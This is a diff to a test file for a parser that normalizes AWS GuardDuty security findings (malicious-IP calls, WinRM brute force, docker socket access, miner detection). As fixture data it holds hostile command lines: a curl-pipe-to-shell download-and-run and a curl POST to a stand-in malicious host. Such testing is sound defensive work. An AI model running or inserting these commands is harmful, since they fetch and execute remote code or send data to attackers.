@@ -1,6 +1,6 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { sampleLine } from './helpers.js';
+import { fixtureLine, sampleLine } from './helpers.js';
 import { assertClaimsNoForeignSample, autoDetectedSamples, hostileVariants, obs, propertyChecks, registry, runner } from './json-detector-helpers.js';
 
 const gd = await runner('aws_guardduty');
@@ -21,6 +21,7 @@ test('EKS anonymous access: severity 8 is high, caller IP, Kubernetes user, clus
   const a = gd.alert(anon);
   assert.equal(a.title, 'Kubernetes API commonly used in Persistence tactics invoked by the anonymous user.');
   assert.deepEqual(a.rule, { id: 'Persistence:Kubernetes/SuccessfulAnonymousAccess', name: 'Persistence:Kubernetes/SuccessfulAnonymousAccess', category: 'Persistence' });
+  assert.equal(a.event_type, 'Persistence:Kubernetes/SuccessfulAnonymousAccess'); // the finding type
   assert.equal(a.severity, 80);
   assert.equal(a.severity_label, 'high');
   assert.equal(a.vendor_severity?.value, '8');
@@ -83,10 +84,40 @@ test('EC2 actions: inbound and outbound connections, port probe, DNS, API call; 
   assert.ok(obs(probe).includes('ip:192.0.2.51:src'));
   const dns = gd.alert(ec2({ actionType: 'DNS_REQUEST', dnsRequestAction: { domain: 'Pool.MiningExample.COM', protocol: 'UDP', blocked: false } }));
   assert.equal(dns.domain, 'pool.miningexample.com');
+  assert.deepEqual(dns.dst, { host: 'Pool.MiningExample.COM' });
   const api = gd.alert(ec2({ actionType: 'AWS_API_CALL', awsApiCallAction: { api: 'GetCallerIdentity', serviceName: 'sts.amazonaws.com', remoteIpDetails: { ipAddressV4: '198.51.100.99' }, domainDetails: { domain: 'evil.example.org' } } }));
   assert.deepEqual(api.src, { ip: '198.51.100.99' });
   assert.deepEqual(api.user, { name: 'deploy-bot' });
   assert.equal(api.domain, 'evil.example.org');
+});
+
+test('Elastic pipeline-test findings: S3 API call from a malicious IP, EC2 outbound WinRM brute force', () => {
+  const s3 = gd.alert(fixtureLine('aws_guardduty', 'guard_duty_findings.jsonl', 1), 'auto');
+  assert.equal(s3.event_type, 'Impact:S3/MaliciousIPCaller');
+  assert.deepEqual(s3.src, { ip: '81.2.69.144' }); // awsApiCallAction.remoteIpDetails
+  assert.deepEqual(s3.user, { name: 'GeneratedFindingUserName' }); // accessKeyDetails.userName
+  assert.deepEqual(s3.host, { id: 'i-99999999', name: 'GeneratedFindingPrivateDnsName', ip: '10.0.0.1' });
+  assert.equal(s3.time, '2022-01-28T21:12:25.000Z'); // count 4: the latest occurrence
+  const winrm = gd.alert(fixtureLine('aws_guardduty', 'guard_duty_findings.jsonl', 2), 'auto');
+  assert.equal(winrm.rule?.id, 'Impact:EC2/WinRMBruteForce');
+  assert.deepEqual(winrm.src, { ip: '10.0.0.23', port: 32794 }); // OUTBOUND: the instance is the source
+  assert.deepEqual(winrm.dst, { ip: '81.2.69.144', port: 5985 });
+  assert.equal(winrm.severity_label, 'low');
+});
+
+test('Elastic pipeline-test findings: DNS request to a blackholed name, Runtime Monitoring docker socket access', () => {
+  const dns = gd.alert(fixtureLine('aws_guardduty', 'guardduty_dns_runtime.jsonl', 1), 'auto');
+  assert.equal(dns.event_type, 'Trojan:EC2/BlackholeTraffic!DNS');
+  assert.deepEqual(dns.dst, { host: 'GeneratedFindingDomainName' }); // a single label: no registrable domain
+  assert.equal(dns.domain, undefined);
+  assert.equal(dns.action, 'blocked');
+  const rt = gd.alert(fixtureLine('aws_guardduty', 'guardduty_dns_runtime.jsonl', 2), 'auto');
+  assert.equal(rt.event_type, 'PrivilegeEscalation:Runtime/DockerSocketAccessed');
+  assert.deepEqual(rt.host, { id: 'i-abcd1234', name: 'buildserver-a-0', ip: '10.30.30.15' }); // the Name tag
+  assert.deepEqual(rt.process, { name: 'sshd', pid: 2345, command_line: '/usr/bin/curl -X POST http://malicious.example.com' });
+  assert.deepEqual(rt.file, { name: 'malicious_file.bin', path: '/tmp/malicious_file.bin' }); // threatFilePath
+  assert.deepEqual(rt.user, { name: 'admin' }); // the process's OS user: no access key in a runtime finding
+  assert.ok(obs(rt).includes('ip:216.160.83.56:host'));
 });
 
 test('EventBridge envelope, GetFindings page, runtime process and malware scan', () => {
@@ -104,6 +135,17 @@ test('EventBridge envelope, GetFindings page, runtime process and malware scan',
   assert.equal(r.file?.path, '/tmp/xmrig');
   assert.equal(r.malware?.name, 'Linux.Miner');
   assert.ok(obs(r).includes('sha256:60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752:file'));
+  // Runtime Monitoring context: the command line, the threat's file beside the process, the OS user.
+  runtime.service.runtimeDetails = {
+    process: { name: 'bash', executablePath: '/usr/bin/bash', executableSha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', pid: 42, user: 'www-data' },
+    context: { commandLineExample: 'bash -c "curl http://203.0.113.5/x | sh"', threatFilePath: '/tmp/x.sh' },
+  };
+  delete (runtime as { resource?: { accessKeyDetails?: unknown } }).resource?.accessKeyDetails;
+  const ctx = gd.alert(JSON.stringify(runtime));
+  assert.deepEqual(ctx.process, { name: 'bash', pid: 42, command_line: 'bash -c "curl http://203.0.113.5/x | sh"' });
+  assert.deepEqual(ctx.file, { name: 'x.sh', path: '/tmp/x.sh' });
+  assert.deepEqual(ctx.user, { name: 'www-data' });
+  assert.ok(obs(ctx).includes('sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08:process'));
 });
 
 test('malformed records are rejected with a reason', () => {
